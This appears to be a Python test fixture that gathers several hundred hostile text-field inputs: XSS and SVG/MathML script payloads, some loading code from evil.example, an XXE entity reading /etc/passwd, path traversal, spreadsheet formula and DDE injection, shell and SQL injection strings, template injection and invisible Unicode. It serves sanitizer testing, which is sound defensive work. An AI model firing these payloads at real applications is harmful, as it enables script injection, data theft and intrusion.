"""What a malicious or careless hand may write into a text field, one payload each; at least 300, all different."""

_TAGS = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt src=//evil.example/x.js></ScRiPt>
<script src="https://evil.example/x.js"></script>
<script/src=//evil.example>
<script>alert(1)
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type="module">import "//evil.example"</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="//evil.example/x.png">
<img srcset="//evil.example/x 1x">
<image href=//evil.example/x>
<picture><source srcset=//evil.example/x></picture>
<video src=//evil.example/x onerror=alert(1)>
<video poster=//evil.example/x>
<audio src=x onerror=alert(1)>
<track src=//evil.example>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=data:text/html,x></object>
<embed src=//evil.example>
<applet code=x></applet>
<frameset><frame src=//evil.example></frameset>
<link rel=stylesheet href=//evil.example/a.css>
<link rel=preload as=script href=//evil.example/a.js>
<style>@import '//evil.example/a.css';</style>
<style>*{background:url(//evil.example)}</style>
<STYLE TYPE="text/css">BODY{-moz-binding:url("//evil.example")}</STYLE>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta name=referrer content=unsafe-url>
<form action=//evil.example><button>ok</button></form>
<form><button formaction=javascript:alert(1)>ok</button></form>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button popovertarget=x>ok</button><div popover id=x onbeforetoggle=alert(1)>
<details open ontoggle=alert(1)>
<dialog open onclose=alert(1)>
<marquee onstart=alert(1)>
<body onload=alert(1)>
<html onclick=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=JaVaScRiPt:alert(1)>x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="//evil.example" ping="//evil.example">x</a>
<area href=javascript:alert(1)>
<p style="background:url(//evil.example)">x</p>
<div style=position:fixed>x</div>
<div onmouseover=alert(1)>x</div>
<table background=//evil.example>
<td background="javascript:alert(1)">
<plaintext>
<xmp><script>alert(1)</script></xmp>
<listing>
<title>x</title>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<isindex action=javascript:alert(1)>
<bgsound src=javascript:alert(1)>
<layer src=//evil.example></layer>
<x onclick=alert(1)>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<portal src=//evil.example>
<fencedframe>
""".strip().split("\n")

_DRAWINGS = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1)></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,x"/></svg>
<svg><image href="//evil.example/x.png"/></svg>
<svg><style>@import "//evil.example"</style></svg>
<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
</title></desc></text></svg><script>alert(1)</script>
</text><script>alert(1)</script>
</svg><img src=x onerror=alert(1)>
<g onclick=alert(1)>
<text onclick="alert(1)">x</text>
""".strip().split("\n")

_BREAKERS = r"""
"><script>alert(1)</script>
'><script>alert(1)</script>
"/><img src=x onerror=alert(1)>
'/><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" onmouseover=alert(1) x="
' onfocus=alert(1) autofocus x='
` onmouseover=alert(1) x=`
"onclick="alert(1)
" style="background:url(//evil.example)
' style='color:red
" href="javascript:alert(1)
" src="//evil.example" x="
"=""><b>
&quot; onmouseover=&quot;alert(1)
&#34; onmouseover=alert(1)
&#x22;&#x3e;&#x3cscript&#x3e;alert(1)
&#39; onmouseover=&#39;alert(1)
"'`<>&
""
''
"">
</td></tr></table></main></body></html>
</p></div></section><script>alert(1)</script>
</a><a href=//evil.example>x
</caption><caption onclick=alert(1)>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</figcaption></figure><img src=x onerror=alert(1)>
</h1><h1 id=x>
id="x" class="y"
class=late
aria-label="x" role="button"
""".strip().split("\n")

_COMMENTS = r"""
<!-- chú thích
<!-- chú thích -->
--><script>alert(1)</script>
<!--><script>alert(1)</script>
<!---><script>alert(1)</script>-->
--!><img src=x onerror=alert(1)>
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<!DOCTYPE html>
<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>
<!ENTITY a "b">
&a;
<?xml version="1.0"?>
<?php echo 1; ?>
<?xml-stylesheet href="//evil.example/a.css"?>
<% alert(1) %>
<!x
</!x>
</
<
<<
<<script>alert(1)//<</script>
<a
< script>alert(1)</ script>
<%00script>
<3 năm
5 < 6 && 7 > 6
a<b>c</b>
""".strip().split("\n")

_ENTITIES = r"""
&
&&
&amp;
&amp;lt;
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
&#x3C;script&#x3E;alert(1)
&#0000060script
&LT;script&GT;
&lt
&lt;
&nbsp;
&#0;
&#xD800;
&#x110000;
&#x202e;đảo
&#8203;
&NotAnEntity;
&copy2026
&notin;
&NewLine;&Tab;
&colon;&sol;
&#x0a;
%3Cscript%3Ealert(1)%3C/script%3E
%22%3E%3Cscript%3E
\u003cscript\u003ealert(1)
\x3cscript\x3e
\74script\76
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
‹script›
﹤script﹥alert(1)
ʺ onmouseover=alert(1)
＂ onmouseover=alert(1)
""".strip().split("\n")

_ADDRESSES = r"""
javascript:alert(1)
JAVASCRIPT:alert(1)
JaVaScRiPt:alert(1)
javascript://evil.example/%0aalert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#106;avascript:alert(1)
&#x6A;avascript:alert(1)
javascript%3Aalert(1)
 javascript:alert(1)
vbscript:msgbox(1)
VBScript:msgbox(1)
livescript:alert(1)
mocha:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
DATA:text/html,x
data:image/svg+xml,<svg onload=alert(1)>
data:image/png;base64,AA
blob:https://evil.example/x
filesystem:https://evil.example/x
file:///etc/passwd
ftp://evil.example/
tel:+84123
ws://evil.example
view-source:https://evil.example
//evil.example/x
\\evil.example\x
/\evil.example/x
///evil.example
https:evil.example
https:/evil.example
https://evil.example
HTTPS://evil.example/
http://evil.example/?a=1&b=2#c
https://ngan-hang.example@evil.example/
https://evil.example/">x
https://evil.example/' onclick='alert(1)
https://evil.example/<script>
https://[::1]/
www.evil.example
mailto:a@evil.example
MAILTO:A@EVIL.EXAMPLE
mailto:a@evil.example?bcc=b@evil.example
a@evil.example
../../../etc/passwd
..\..\etc\passwd
index.html
#
#x" onclick="alert(1)
?x=<script>
""".strip("\n").split("\n")

_TEMPLATES = r"""
{{title}}
{{{title}}}
{{{already-safe-markup drawing}}}
{{#frame}}{{/frame}}
{{/frame}}
{{> head}}
{{! x }}
{{=<% %>=}}
{{&title}}
{{
}}
{{{
}}}
{n}
{title}
{%x%}
${alert(1)}
#{alert(1)}
<%= 7*7 %>
{{7*7}}
{{constructor.constructor('alert(1)')()}}
%s%n%x
\(1)
$(touch x)
`touch x`
; rm -rf x
' OR 1=1 --
""".strip().split("\n")

_FORMULAS = r"""
=cmd|' /C calc'!A0
=1+1
=HYPERLINK("https://evil.example","x")
=IMPORTXML("https://evil.example","//a")
+1+1
+cmd|' /C calc'!A0
-1+1
-cmd|' /C calc'!A0
-5 cụm
@SUM(1+1)
@x
＝1+1
＋1
－1
＠SUM(1)
|calc
%0A=1+1
'=1+1
"=1+1"
;=1+1
a;=1+1;b
a,b;"c"
"a";"b"
==1
=
+
-
@
DDE("cmd";"/C calc";"x")
""".strip().split("\n") + ["\t=1+1", "\t@x", " =1+1", "\r=1+1", "a\t=1+1", "\u00a0=1+1", "\u3000=1+1"]

_UNSEEN = [
    "\u202eđảo chiều", "a\u202db", "a\u2066b\u2069", "a\u2067b", "a\u2068b", "a\u202ab\u202c", "a\u200eb", "a\u200fb",
    "a\u061cb", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "\ufeffa", "a\u00adb", "a\u034fb",
    "a\u115fb", "a\u3164b", "a\u2028b", "a\u2029b", "a\u0085b", "a\u0000b", "\u0000<b>", "a\u0001b", "a\u0007b",
    "a\u0008b", "a\u000bb", "a\u000cb", "a\u001bb", "a\u001b[31mđỏ", "a\u007fb", "a\u0080b", "a\u009fb", "a\ufffeb",
    "a\uffffb", "a\ufffdb", "a\ue000b", "a\U000e0041b", "a\U000f0000b", "a\ufe0fb", "tiê\u0301ng", "e\u0302\u0301",
    "Z" + "\u0301" * 40, "\u0301a", "a\u00a0b", "a\u2003b", "a\u3000b", "مرحبا", "שלום", "Ա", "аpple", "ı", "ﬁ", "Å",
    "𝐛𝐨𝐥𝐝", "👩\u200d👩\u200d👧", "🇻🇳", "1\ufe0f\u20e3",
]

_LONG = [
    "W" * 400, "ườ" * 300, "a-" * 300, "/" * 300, "." * 300, "_" * 300, "0" * 300, "9" * 60, "1,5" * 60, "x " * 300 + "x",
    "m" * 20000,
]

_MARKDOWN = r"""
<https://evil.example/>
<javascript:alert(1)>
<a@evil.example>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java script:alert(1))
[x](&#106;avascript:alert(1))
[x](java\script:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html,x)
[x](vbscript:x)
[x](//evil.example)
[x](\\evil.example)
[x](https://evil.example)
[x](https://evil.example "tên" onclick="alert(1)")
[x](https://evil.example 'a"b')
[x](https://evil.example (a'b"c))
[x](https://evil.example/"onclick="alert(1))
[x](https://evil.example/%22onclick)
[x](mat.html)
[x](../../etc/passwd)
[x](#mat)
[x]()
[](https://evil.example)
[x][y]
[x][]
[x]: javascript:alert(1)
[x]: https://evil.example "tên"
![x](https://evil.example/x.png)
![x](javascript:alert(1))
![x](data:image/png;base64,AA)
![x](x.png" onerror="alert(1))
![x]
[![x](y.png)](https://evil.example)
[[[[[[[[x]]]]]]]]
[a [b](https://evil.example) c](https://evil.example)
[x](((((((((y)))))))))
]](https://evil.example)
[ ](
](
*a* **b** ~~c~~ `d` _e_
***
___
* * *
*****a
**a*b**c*
__a_b
~~~
~~~~ script
```
``` "><script>alert(1)</script>
````
`
``
`` ` ``
`````````````````````````````````
a | b | c
| a | b |
|---|---|
||||
\|
\| a \\| b
# x
###### x
####### x
x {#id onclick=alert(1)}
> x
>>>>>> x
- x
+ x
1. x
999999999. x
- [ ] x
- [x] x
    x
===
---
[^1]
[^x]
[^x]: y
[^"><script>]
:::
::: note
:::assignment{lead="x" item="9"}
::occupancy{plan=2021}
::x
:x[y]{z}
{.x #y}
\
\\
\<script\>alert(1)
\`\*\_\{\}\[\]\(\)\#\+\-\.\!
\&lt;script\&gt;
a  b
$x^2$
==x==
H~2~O
<details>
<div>x</div>
<b>x</b>
<br>
<br/>
</div>
<!-- x -->
""".strip("\n").split("\n") + [
    "a\nb", "a\n\nb", "a  \nb", "a\\\nb", "a\n<script>alert(1)</script>", "a\n\n    mã", "a\n===", "a\n---", "a\n| x |\n|---|",
    "a\n\n:::", "a\n\n[b]: https://evil.example", "*" * 500, "_" * 500 + "a", "[" * 500, "`" * 500, "> " * 60 + "a",
    "- " * 60 + "a", "|" * 500, "<" * 500, "&" * 500, "![" * 200, "[a](" * 200, "~" * 500, "\\" * 501,
]

_YAML = r"""
{a: b}
[a, b]
*a
&a b
!!str x
!x y
? x
| x
> x
- x
a: b
a #b
#b
---
...
null
~
true
yes
có
0x1F
1e3
1_000
.inf
2021-01-01
<<
"a
'a
a"b'c
%YAML 1.2
@a
a: |
""".strip().split("\n")

GROUPS = {
    "tags": _TAGS, "drawings": _DRAWINGS, "breakers": _BREAKERS, "comments": _COMMENTS, "entities": _ENTITIES,
    "addresses": _ADDRESSES, "templates": _TEMPLATES, "formulas": _FORMULAS, "unseen": _UNSEEN, "long": _LONG,
    "markdown": _MARKDOWN, "yaml": _YAML,
}

ALL = list(dict.fromkeys(payload for group in GROUPS.values() for payload in group))
